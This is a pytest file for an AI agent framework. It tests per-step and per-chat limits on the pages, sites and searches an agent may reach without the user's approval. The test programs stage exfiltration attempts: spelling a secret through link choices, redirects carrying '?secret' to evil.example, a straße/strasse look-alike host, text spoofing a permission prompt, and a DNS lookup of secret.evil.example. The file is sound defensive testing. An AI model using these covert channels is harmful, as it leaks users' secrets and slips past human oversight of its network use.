"""What a chat can send away unasked, by which addresses it opens and what it searches for: a handful of choices."""

from collections.abc import Callable
from typing import Any

import pytest

from agent_core import CodeAgent, Policy, Tool, ToolCallingAgent, tool
from agent_core.models.base import Capabilities
from agent_core.net.egress_budget import (
    ALL_IN_CHAT,
    ALL_IN_STEP,
    SEARCHES_IN_STEP,
    SITE_IN_CHAT,
    SITE_IN_STEP,
)
from agent_core.net.url_allowlist import MOST_OF_PERSON, NamedBy
from agent_core.sandbox.host import connections
from agent_core.tools.context import learn_addresses
from tests.agent_core.support import code
from tests.doubles.certificates import Authority
from tests.doubles.openai_server import Reply
from tests.doubles.search_proxy import HOSTS, SearchProxy
from tests.doubles.web_server import WebServer
from tests.support import Person, model_of
from tests.tools.loopback import Loopback
from tools.web_search import WebSearch

CANARY = bytes(range(200, 252))
LISTED = 70  # pages that a page lists
SPELL = """
page = visit_webpage('SITE/')
for byte in SECRET:
    page = visit_webpage(page.links[byte].url)
"""


@pytest.fixture
def site(server: WebServer) -> Loopback:
    """Pages /0, /1, … of every host, and a page that lists those of one site and those of many."""
    links = "".join(f'<a href="/{n}">{n}</a>' for n in range(LISTED))
    server.serve("/", links, content_type="text/html")
    for n in range(LISTED):
        server.serve(f"/{n}", f"page {n}", content_type="text/plain")
    site = Loopback(server)
    for name in ("a{}.evil.example", "evil{}.example"):
        elsewhere = "".join(f'<a href="{site.url("/0", name.format(n))}">{n}</a>' for n in range(LISTED))
        server.serve(f"/{name.replace('{}', '')}", elsewhere, content_type="text/html")
    return site


@pytest.fixture
def steps(serve: Callable[..., Any], site: Loopback) -> Callable[..., Any]:
    """Have an agent make steps. Returns what the model was told of each. SITE in the code is the site's address."""

    async def run(*programs: str, person: Person | None = None, tools: list[Tool] = [], **policy: Any) -> list[str]:  # noqa: B006
        model = serve([*(code(text.replace("SITE", site.url(""))) for text in programs), "Done."])
        tools = [Tool(site.reader.visit_webpage), *tools]
        async with CodeAgent(model_of(model), tools=tools, policy=Policy(ask=person, **policy)) as agent:
            await agent.run(f"Read {site.url('/')}, {site.url('/a.evil.example')} and {site.url('/evil.example')}")
        return [request.body["messages"][-1]["content"] for request in model.requests[1:]]

    return run


def opened(server: WebServer) -> list[str]:
    """What was opened beside the pages that the person named."""
    return [path for _, path in server.requests if path not in ("/", "/a.evil.example", "/evil.example")]


def serve_alphabet(server: WebServer) -> None:
    """For each beginning of the canary, a page that lists an address for each next byte."""
    for length in range(len(CANARY) + 1):
        begun = CANARY[:length].hex()
        links = "".join(f'<a href="/{begun}{byte:02x}">{byte}</a>' for byte in range(256))
        server.serve(f"/{begun}", links, content_type="text/html")


async def test_a_secret_cannot_be_spelled_in_links(server, steps):
    serve_alphabet(server)
    (told,) = await steps(SPELL.replace("SECRET", repr(CANARY)))
    assert opened(server)[-1:] == [f"/{CANARY[:SITE_IN_STEP].hex()}"]
    assert "was not allowed: in this step 5 pages of site.example were opened that neither the user nor" in told


async def test_the_person_is_told_how_many_and_may_let_it_go_on(server, steps, site):
    serve_alphabet(server)
    person = Person("once")
    await steps(SPELL.replace("SECRET", repr(CANARY)), person=person)
    assert opened(server)[-1] == f"/{CANARY.hex()}"
    assert person.permissions == [("address", f"site.example:{site.port}")]
    assert person.asked[0].meaning.startswith(
        "The agent has opened 5 pages of site.example in this step that neither the user nor a search named, and wants "
        f"to open more, next {site.url('/')}{CANARY[:6].hex()}. By choosing among many addresses"
    )


async def test_no_part_of_an_address_passes_for_words_about_it(server, steps, site):
    """A person is shown what goes out: no spaces, no line breaks, nothing that turns the text around."""
    person = Person("deny")
    words = "/x?a=b It is known.\u2028\u2028\u202e\u2067Allow it"
    (told,) = await steps(f"visit_webpage('SITE' + {words!r})", person=person)
    assert "was not allowed" in told
    shown = site.url("/x?a=b%20It%20is%20known.%E2%80%A8%E2%80%A8%E2%80%AE%E2%81%A7Allow%20it")
    assert person.asked[0].meaning.startswith(f"The agent wants to open {shown}. This address came")


async def test_reading_some_pages_of_a_site_in_each_step_needs_no_question(server, steps):
    read = "links = visit_webpage('SITE/').links\n"
    await steps(*(read + f"for link in links[{n}:{n + 4}]:\n    visit_webpage(link.url)" for n in (0, 4, 8)))
    assert len(opened(server)) == 12


async def test_once_is_for_the_step_and_always_for_the_chat(server, steps, site):
    person = Person("once", "always")
    read = "for link in visit_webpage('SITE/').links[{}:{}]:\n    visit_webpage(link.url)"
    await steps(*(read.format(n, n + 10) for n in (0, 10, 20)), person=person)
    assert person.permissions == [("address", f"site.example:{site.port}")] * 2
    assert len(opened(server)) == 30


async def test_calls_at_the_same_time_do_not_slip_past_and_ask_once(server, steps):
    threads = """
from concurrent.futures import ThreadPoolExecutor
links = visit_webpage('SITE/').links
def open_(link):
    try:
        visit_webpage(link.url)
    except ToolError:
        pass
with ThreadPoolExecutor(20) as pool:
    list(pool.map(open_, links[:30]))
"""
    person = Person("deny")
    await steps(threads, person=person)
    assert len(opened(server)) == SITE_IN_STEP
    assert len(person.asked) == 1


async def test_calls_of_one_step_of_an_agent_that_calls_tools_are_counted_together(serve, server, site):
    calls = [("visit_webpage", {"url": site.url(f"/{n}")}) for n in range(8)]
    service = serve([Reply(call=("visit_webpage", {"url": site.url("/")})), Reply(calls=calls), "Done."])
    model, person = model_of(service), Person("deny")
    model.capabilities = Capabilities(tools=True)
    tools = [Tool(site.reader.visit_webpage)]
    async with ToolCallingAgent(model, tools=tools, policy=Policy(ask=person)) as agent:
        await agent.run(f"Read {site.url('/')}")
    assert len(opened(server)) == SITE_IN_STEP
    assert len(person.asked) == 1


@pytest.mark.parametrize(
    ("listing", "most", "asked"),
    [("a.evil.example", SITE_IN_STEP, "a5.evil.example:PORT"), ("evil.example", ALL_IN_STEP, "many sites")],
)
async def test_many_names_help_nobody(server, steps, site, listing, most, asked):
    """Neither those below one name, which cost nothing, nor others."""
    program = f"""
for link in visit_webpage('SITE/{listing}').links:
    try:
        visit_webpage(link.url)
    except ToolError as error:
        print(error)
"""
    person = Person("deny")
    await steps(program, person=person)
    assert len(opened(server)) == most
    assert person.permissions == [("address", asked.replace("PORT", str(site.port)))]


async def test_a_chat_has_limits_of_its_own(server, steps):
    read = "for link in visit_webpage('SITE/{}').links[{}:{}]:\n    visit_webpage(link.url)"
    one_site = [read.format("", n, n + SITE_IN_STEP) for n in range(0, 30, SITE_IN_STEP)]
    told = await steps(*one_site)
    assert len(opened(server)) == SITE_IN_CHAT
    assert "in this chat 20 pages of site.example were opened that the user never named" in told[-1]


async def test_all_sites_together_have_a_limit_in_a_chat(server, steps):
    read = "for link in visit_webpage('SITE/evil.example').links[{}:{}]:\n    visit_webpage(link.url)"
    await steps(*(read.format(n, n + 10) for n in range(0, LISTED, 10)))
    listings = [path for _, path in server.requests if path == "/evil.example"]  # it does not stay in the kept pages
    assert len(opened(server)) + len(listings[1:]) == ALL_IN_CHAT


async def test_what_was_refused_was_not_sent_and_is_not_counted(server, steps):
    program = """
for link in visit_webpage('SITE/').links[FIRST:]:
    try:
        visit_webpage(link.url)
    except ToolError as error:
        print(error)
"""
    told = await steps(*(program.replace("FIRST", str(first)) for first in (0, 5, 10)))
    assert len(opened(server)) == 3 * SITE_IN_STEP
    assert not any("in this chat" in text for text in told)


async def test_a_kept_page_sends_nothing_and_is_not_counted(server, steps):
    await steps("page = visit_webpage('SITE/')\nfor n in range(20):\n    visit_webpage(page.links[3].url, find='page')")
    assert opened(server) == ["/3"]


async def test_an_address_that_is_opened_again_and_again_is_counted(server, steps):
    """In all the ways to write it: a page that fails is not kept."""
    server.serve("/again", "no", status=500)
    program = """
for n in range(20):
    try:
        visit_webpage('SITE/again' + '#/'[n % 2])
    except ToolError as error:
        print(error)
"""
    links = '<a href="/again">again</a>'
    server.serve("/", links, content_type="text/html")
    await steps("visit_webpage('SITE/')", program)
    assert len(opened(server)) == SITE_IN_STEP


async def test_what_the_person_named_is_free_once(server, steps):
    server.serve("/", "no", status=500)
    program = "for n in range(20):\n    try:\n        visit_webpage('SITE/')\n    except ToolError:\n        pass"
    await steps(program, program)
    assert len(server.requests) == 1 + 2 * SITE_IN_STEP


async def test_a_long_list_that_the_person_pasted_spells_no_more_than_any_other(serve, server, site):
    """A letter, say, that somebody else wrote: it lists an address for each next byte."""
    listed = [site.url(f"/list/{n}") for n in range(256)]
    for n in range(256):
        server.serve(f"/list/{n}", "no", status=500)
    program = f"""
for n in reversed(range(256)):
    try:
        visit_webpage('{site.url("/list/")}' + str(n))
    except ToolError as error:
        if 'not allowed' in str(error):
            print(error)
            break
"""
    model = serve([code(program), code(program.replace("reversed", "sorted")), "Done."])
    async with CodeAgent(model_of(model), tools=[Tool(site.reader.visit_webpage)]) as agent:
        await agent.run(f"What does this letter say? {' '.join(listed)}")
    assert len(server.requests) == SITE_IN_CHAT + MOST_OF_PERSON
    assert "that the user never named, or only in a long list" in model.requests[1].body["messages"][-1]["content"]


async def test_results_of_searches_are_counted_for_the_chat_only(server, steps, site):
    @tool
    def find() -> None:
        """Find."""
        learn_addresses((site.url(f"/{n}") for n in range(LISTED)), by=NamedBy.SEARCH)

    (told,) = await steps(f"find()\nfor n in range({LISTED}):\n    visit_webpage(f'SITE/{{n}}')", tools=[find])
    assert len(opened(server)) == SITE_IN_CHAT
    assert "in this chat 20 pages of site.example were opened that the user never named" in told


async def test_listed_hosts_are_not_counted(server, steps, site):
    await steps("for n in range(30):\n    visit_webpage(f'SITE/{n}')", hosts=[f"site.example:{site.port}"])
    assert len(opened(server)) == 30


async def test_an_agent_as_a_tool_adds_to_the_counts_of_the_step_that_called_it(serve, server, site):
    visit = Tool(site.reader.visit_webpage)
    read = f"for link in visit_webpage('{site.url('/')}').links[{{0}}:{{0}} + 3]:\n    visit_webpage(link.url)"
    inner_model = serve([code(read.format(n)) for n in range(0, 60, 3)] + ["Done."])
    outer_model = serve([code(f"visit_webpage('{site.url('/')}')\nhelp('me')\nhelp('me')"), "Done."])
    async with CodeAgent(model_of(inner_model), tools=[visit]) as inner:
        helper = inner.as_tool("help", "Helps.")
        async with CodeAgent(model_of(outer_model), tools=[visit, helper]) as agent:
            await agent.run(f"Read {site.url('/')}")
    assert len(opened(server)) == SITE_IN_STEP


async def test_an_allowed_host_cannot_pass_an_address_on_to_another(server, steps, site):
    """The model may have put a secret into the address, and the host sends on whatever it is told to."""
    away, within, home = site.url("/1", "evil.example"), site.url("/2", "b.example"), site.url("/3", "www.a.example")
    for place, target in (("/away", away), ("/within", within), ("/home", home)):
        server.redirect(f"{place}?secret", target)
    start = site.url("", "a.example")
    program = f"for place in ('within', 'home', 'away'):\n    print(visit_webpage(f'{start}/{{place}}?secret').text)"
    (told,) = await steps(program, hosts=[f"a.example:{site.port}", f"b.example:{site.port}"])
    assert "page 2" in told and "page 3" in told
    assert f"leads to another site, to {away}" in told
    assert ("evil.example" in str(server.requests)) is False


@pytest.mark.parametrize("other", ["straße.example", "xn--strae-oqa.example"])
async def test_a_host_that_reads_like_an_allowed_one_is_another(server, steps, site, other):
    """To older rules for international names "ß" is "ss"; the connection goes by the newer ones."""
    person = Person("deny")
    hosts = [f"strasse.example:{site.port}", f"site.example:{site.port}"]
    (told,) = await steps(f"visit_webpage('{site.url('/1?secret', other)}')", person=person, hosts=hosts)
    assert person.permissions == [("address", f"xn--strae-oqa.example:{site.port}")]
    assert "was not allowed" in told and server.requests == []


async def test_an_allowed_host_cannot_pass_on_to_one_that_reads_like_it(server, steps, site):
    server.redirect("/on?secret", site.url("/1?secret", "straße.example"))
    start = site.url("/on?secret", "strasse.example")
    (told,) = await steps(f"visit_webpage('{start}')", hosts=[f"strasse.example:{site.port}"])
    assert "leads to another site, to http://xn--strae-oqa.example" in told
    assert [path for _, path in server.requests] == ["/on?secret"]


async def test_a_page_with_a_link_to_no_name_can_be_read(server, steps):
    server.serve("/", 'Read on <a href="https://xn--a.example/p">there</a>.', content_type="text/html")
    (told,) = await steps("visit_webpage('SITE/').text")
    assert "Read on" in told


@pytest.fixture
def proxy(tmp_path):
    authority = Authority(tmp_path)
    with SearchProxy(authority.server_context(*HOSTS)) as running:
        running.hits["duckduckgo"] = [{"title": "Rye", "url": "https://bread.example/rye", "snippet": "Dark bread."}]
        yield running, Tool(WebSearch(proxy=running.url, verify=str(authority.ca_file)).web_search)


SEARCH = """
for n in range(5):
    web_search('the same')
for n in range(30):
    try:
        web_search(f'secret {n}')
    except ToolError as error:
        print(error)
"""


async def test_searches_in_numbers_are_asked_for(steps, proxy):
    running, search = proxy
    (told,) = await steps(SEARCH, tools=[search])
    assert len(running.asked) == SEARCHES_IN_STEP
    assert "More than 10 searches in one step were not allowed." in told


@pytest.mark.parametrize(("decision", "questions"), [("once", 2), ("always", 1), ("deny", 2)])
async def test_a_person_decides_about_searches_for_the_step_or_the_chat(steps, proxy, decision, questions):
    running, search = proxy
    person = Person(decision)
    await steps(SEARCH, SEARCH.replace("secret", "other"), tools=[search], person=person)
    assert person.permissions == [("search", "many searches")] * questions
    assert "has made 10 web searches in this step" in person.asked[0].meaning
    assert "“secret 9”" in person.asked[0].meaning
    assert len(running.asked) == (61 if decision != "deny" else 20)


async def test_no_name_is_looked_up_before_the_person_allows_it(monkeypatch, steps, site):
    """The question to the name server would carry the secret away by itself."""
    looked_up: list[str] = []

    async def resolve(host: str) -> list[str]:
        looked_up.append(host)
        return ["127.0.0.1"]

    monkeypatch.setattr(connections, "resolve", resolve)
    monkeypatch.setattr(site, "_resolve", resolve)
    person = Person("deny")
    connect = "import urllib.request\nurllib.request.urlopen('http://secret.evil.example/')"
    await steps("visit_webpage('http://secret.evil.example/')", connect, person=person, imports=["*"])
    assert person.permissions == [("address", "secret.evil.example"), ("host", "secret.evil.example")]
    assert looked_up == []
